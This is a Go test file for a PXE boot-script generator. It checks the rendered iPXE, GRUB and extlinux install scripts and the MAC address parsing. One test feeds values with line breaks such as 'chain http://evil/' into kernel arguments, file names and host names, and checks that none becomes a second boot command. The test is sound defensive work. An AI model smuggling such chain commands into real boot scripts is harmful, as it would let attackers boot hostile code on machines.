package script

import (
	"strings"
	"testing"

	"gpupool/pxe/boot"
)

var testVars = vars{base: "http://10.0.0.2:8080/b/TOKEN", files: "http://10.0.0.2:8080/files", server: "srv-1", name: "r1s1", mac: "52:54:00:00:00:01", attempt: 3}

func TestScriptsToInstall(t *testing.T) {
	t.Parallel()
	p := boot.Plan{Kernel: "debian/vmlinuz", Initrd: []string{"debian/initrd.gz"}, Args: "url={{base}}/preseed.cfg img={{files}}/disk.img s={{server}} n={{name}} a={{attempt}} m={{mac}}"}
	args := "url=http://10.0.0.2:8080/b/TOKEN/preseed.cfg img=http://10.0.0.2:8080/files/disk.img s=srv-1 n=r1s1 a=3 m=52:54:00:00:00:01"
	for k, want := range map[Kind]string{
		IPXE: `#!ipxe
echo gpupool: installing r1s1, attempt 3
kernel http://10.0.0.2:8080/files/debian/vmlinuz initrd=initrd.gz ` + args + ` || goto failed
initrd --name initrd.gz http://10.0.0.2:8080/files/debian/initrd.gz || goto failed
boot || goto failed
:failed
echo gpupool: a boot file could not be loaded; going on to the disk
sleep 5
exit 1
`,
		GRUB: `set timeout=0
echo 'gpupool: installing r1s1, attempt 3'
linux /debian/vmlinuz ` + args + `
initrd /debian/initrd.gz
boot
`,
		Extlinux: `DEFAULT install
PROMPT 0
TIMEOUT 1
LABEL install
  KERNEL /debian/vmlinuz
  INITRD /debian/initrd.gz
  APPEND ` + args + `
`,
	} {
		got, err := install(k, p, testVars)
		if err != nil || got != want {
			t.Errorf("%s: %v\n%s\nwant\n%s", k, err, got, want)
		}
	}
}

func TestAScriptCannotBeBrokenOutOf(t *testing.T) {
	t.Parallel()
	for name, p := range map[string]boot.Plan{
		"no kernel":                   {Args: "x"},
		"a second command in args":    {Kernel: "k", Args: "quiet\nchain http://evil/"},
		"a carriage return in kernel": {Kernel: "k\rchain http://evil/"},
		"a line break in an initrd":   {Kernel: "k", Initrd: []string{"i\nboot"}},
	} {
		if s, err := install(IPXE, p, testVars); err == nil {
			t.Errorf("%s: made %q", name, s)
		}
	}
	v := testVars
	v.name = "x\nchain http://evil/"
	if s, err := install(IPXE, boot.Plan{Kernel: "k"}, v); err == nil {
		t.Errorf("a name with a line break: made %q", s)
	}
	for _, k := range []Kind{IPXE, GRUB, Extlinux} {
		if s := disk(k, "phase\nchain http://evil/"); strings.Contains(s, "\nchain http://evil") {
			t.Errorf("%s: a reason became a command: %q", k, s)
		}
	}
}

func TestMACsAsLoadersWriteThem(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"52:54:00:AA:bb:01": "52:54:00:aa:bb:01", "52-54-00-aa-bb-01": "52:54:00:aa:bb:01", "01-52-54-00-aa-bb-01": "52:54:00:aa:bb:01",
		"525400aabb01": "52:54:00:aa:bb:01", "": "", "x": "", "52:54:00:aa:bb": "", "01-52-54": "", "5254.00aa.bb01": "52:54:00:aa:bb:01", "zz5400aabb01": "",
	} {
		if got, ok := ParseMAC(in); got != want || ok != (want != "") {
			t.Errorf("%q is %q, %v; want %q", in, got, ok, want)
		}
	}
}
